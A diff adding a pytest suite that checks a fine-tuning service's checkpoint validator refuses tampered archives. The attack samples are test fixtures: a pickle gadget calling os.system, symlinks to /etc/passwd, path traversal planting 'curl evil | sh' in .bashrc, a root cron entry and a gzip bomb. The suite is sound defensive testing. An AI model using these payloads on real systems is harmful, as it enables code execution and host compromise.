@@ -1,0 +1,164 @@
+"""The checkpoint checks every reader runs (shared/checkpoint.py): a well-formed checkpoint of the job passes;
+each way a stranger could smuggle code, links, foreign paths, impossible steps or junk into one is refused
+with a reason, and unpacking writes regular files into `resume/` only."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import json
+import os
+import pickle
+import tarfile
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from shared.checkpoint import CheckpointRejected, CheckpointRules, check_archive, check_folder
+from shared.catalog import get_base_model
+from tests.fakes import lora_shapes, checkpoint_archive, checkpoint_members, checkpoint_state, safetensors_of, tar_gz
+
+RULES = CheckpointRules(base_model="tunegrid/tiny-llama", r=16, target_modules="all-linear", learning_rate=2e-4,
+                        seed=0, max_step=100, max_tokens_per_step=4096)
+
+
+class _Payload:
+    def __reduce__(self):  # type: ignore[no-untyped-def]
+        return (os.system, ("touch /tmp/tunegrid-pwned",))
+
+
+def check(archive: bytes, *, step: int | None = 1, rules: CheckpointRules = RULES, **kwargs):  # type: ignore[no-untyped-def]
+    return check_archive(io.BytesIO(archive), rules, step=step, **kwargs)
+
+
+def _link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.type, info.linkname = kind, target
+    return info
+
+
+def test_a_well_formed_checkpoint_passes() -> None:
+    facts = check(checkpoint_archive(step=3), step=3)
+    assert facts.step == 3 and facts.state.data_order.seed == 0 and facts.bytes > 0
+
+
+def _members(**replace: bytes) -> list[tuple[str, bytes]]:
+    return [(f"resume/{n}", b) for n, b in {**checkpoint_members(), **replace}.items()]
+
+
+STATE = checkpoint_state(1)
+TINY_SHAPES = lora_shapes(get_base_model("tunegrid/tiny-llama"), 16)
+ATTACKS = {
+    "a pickle where state.json goes": (
+        checkpoint_archive(replace={"state.json": pickle.dumps(_Payload())}), "state.json"),
+    "a pickle beside the checkpoint (state.pt)": (
+        checkpoint_archive(extra=[("resume/state.pt", pickle.dumps(_Payload()))]), "unexpected entry"),
+    "a symbolic link to a host file": (
+        tar_gz([*_members(), _link("resume/notes.txt", "/etc/passwd")]), "unexpected entry"),
+    "a member that is a link": (
+        tar_gz([_link("resume/state.json", "/etc/passwd"), *_members()[:3]]), "not a regular file"),
+    "a hard link": (tar_gz([*_members()[:3], _link("resume/state.json", "resume/rng.safetensors", tarfile.LNKTYPE)]),
+                    "not a regular file"),
+    "a device": (tar_gz([*_members()[:3], _link("resume/state.json", "", tarfile.CHRTYPE)]), "not a regular file"),
+    "a parent path": (tar_gz([*_members(), ("resume/../../.bashrc", b"curl evil | sh")]), "unsafe path"),
+    "an absolute path": (tar_gz([("/etc/cron.d/evil", b"* * * * * root sh"), *_members()]), "unsafe path"),
+    "a member twice": (tar_gz([*_members(), ("resume/state.json", json.dumps(STATE).encode())]), "twice"),
+    "a missing member": (tar_gz(_members()[:3]), "lacks"),
+    "random bytes": (os.urandom(4096), "not a readable"),
+    "a plain tar, not gzip": (b"\0" * 1024, "not a readable"),
+    "a step of 10^9": (checkpoint_archive(replace={"state.json": json.dumps(checkpoint_state(10**9)).encode()}),
+                       "upload says"),
+    "extra keys in state.json": (checkpoint_archive(replace={"state.json": json.dumps({**STATE, "x": 1}).encode()}),
+                                 "Extra inputs"),
+    "NaN in state.json": (checkpoint_archive(replace={"state.json": json.dumps(
+        {**STATE, "optimizer": {"lr": float("nan"), "initial_lr": 2e-4}}).encode()}), "state.json"),
+    "a string for a number": (checkpoint_archive(replace={"state.json": json.dumps({**STATE, "step": "1"}).encode()}),
+                              "state.json"),
+    "another learning rate": (checkpoint_archive(replace={"state.json": json.dumps(checkpoint_state(1, lr=1.0)).encode()}),
+                              "learning rate"),
+    "another seed": (checkpoint_archive(replace={"state.json": json.dumps(checkpoint_state(1, seed=9)).encode()}),
+                     "seed"),
+    "more tokens than a step holds": (checkpoint_archive(replace={"state.json": json.dumps(
+        checkpoint_state(1, tokens=10**12)).encode()}), "tokens"),
+    "an adapter of another rank": (checkpoint_archive(replace={
+        "adapter_model.safetensors": checkpoint_members(r=8)["adapter_model.safetensors"]}), "the job needs"),
+    "an adapter with a foreign tensor": (checkpoint_archive(replace={"adapter_model.safetensors": safetensors_of(
+        {"lm_head.weight": ("F32", [640, 128])})}), "adapter_model.safetensors"),
+    "optimizer moments of another dtype": (checkpoint_archive(replace={"optimizer.safetensors": safetensors_of({
+        **{f"{m}/{n}": ("BF16", s) for n, s in TINY_SHAPES.items() for m in ("exp_avg", "exp_avg_sq")},
+        **{f"step/{n}": ("F32", []) for n in TINY_SHAPES}})}), "is BF16"),
+    "a header that lies about its size": (checkpoint_archive(replace={"rng.safetensors": (
+        (10**12).to_bytes(8, "little") + b"{}")}), "header length"),
+    "tensors that do not tile the data": (checkpoint_archive(replace={"rng.safetensors": (
+        safetensors_of({"torch": ("U8", [5056])}) + b"extra")}), "holds"),
+    "a GPU state on a CPU job": (checkpoint_archive(replace={"rng.safetensors": safetensors_of(
+        {"torch": ("U8", [5056]), "cuda": ("U8", [16])})}), "unexpected tensor"),
+}
+
+
+@pytest.mark.parametrize("name", list(ATTACKS))
+def test_an_attack_is_refused_with_its_reason(name: str) -> None:
+    archive, reason = ATTACKS[name]
+    rules = RULES if name != "a GPU state on a CPU job" else replace(RULES, gpu=False)
+    with pytest.raises(CheckpointRejected, match=reason):
+        check(archive, rules=rules)
+    assert not Path("/tmp/tunegrid-pwned").exists()
+
+
+def test_a_step_past_what_the_lease_reported_is_refused() -> None:
+    archive = checkpoint_archive(step=50)
+    assert check(archive, step=50).step == 50
+    with pytest.raises(CheckpointRejected, match="past the 49 steps"):
+        check(archive, step=50, rules=replace(RULES, max_step=49))
+
+
+def test_a_gzip_bomb_stops_at_the_jobs_inflate_limit() -> None:
+    header = tarfile.TarInfo("resume")  # an extended header tarfile would read whole into memory
+    header.type, header.pax_headers = tarfile.DIRTYPE, {"comment": "x" * (RULES.inflate_limit() + 10**6)}
+    raw = io.BytesIO()
+    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
+        tar.addfile(header)
+    bomb = gzip.compress(raw.getvalue(), compresslevel=9)
+    assert len(bomb) < RULES.inflate_limit() // 100
+    with pytest.raises(CheckpointRejected, match="inflates to more than"):
+        check(bomb)
+    huge_member = tar_gz([("resume/state.json", b" " * (65 * 1024))])
+    with pytest.raises(CheckpointRejected, match="at most"):
+        check(huge_member)
+
+
+def test_unpacking_writes_regular_files_into_resume_only(tmp_path: Path) -> None:
+    target = tmp_path / "job" / "resume"
+    target.parent.mkdir()
+    check(checkpoint_archive(step=2), step=2, extract_to=target)
+    assert sorted(os.listdir(target)) == sorted(checkpoint_members())
+    assert all(p.is_file() and not p.is_symlink() for p in target.iterdir())
+    assert check_folder(target, RULES).step == 2
+
+
+def test_a_refused_archive_leaves_nothing_behind_and_a_planted_link_is_never_followed(tmp_path: Path) -> None:
+    target = tmp_path / "resume"
+    with pytest.raises(CheckpointRejected):
+        check(ATTACKS["a parent path"][0], extract_to=target)
+    assert not target.exists() and not (tmp_path.parent / ".bashrc").exists()
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    target.symlink_to(outside)  # something planted a link where resume/ goes
+    with pytest.raises(FileExistsError):
+        check(checkpoint_archive(), extract_to=target)
+    assert list(outside.iterdir()) == []
+
+
+def test_an_unpacked_folder_with_a_link_or_an_extra_file_is_refused(tmp_path: Path) -> None:
+    target = tmp_path / "resume"
+    check(checkpoint_archive(), extract_to=target)
+    (target / "state.json").unlink()
+    (target / "state.json").symlink_to("/etc/hostname")
+    with pytest.raises(CheckpointRejected, match="link"):
+        check_folder(target, RULES)
+    (target / "state.json").unlink()
+    (target / "state.json").write_bytes(json.dumps(STATE).encode())
+    (target / "state.pt").write_bytes(pickle.dumps(_Payload()))
+    with pytest.raises(CheckpointRejected, match="exactly"):
+        check_folder(target, RULES)
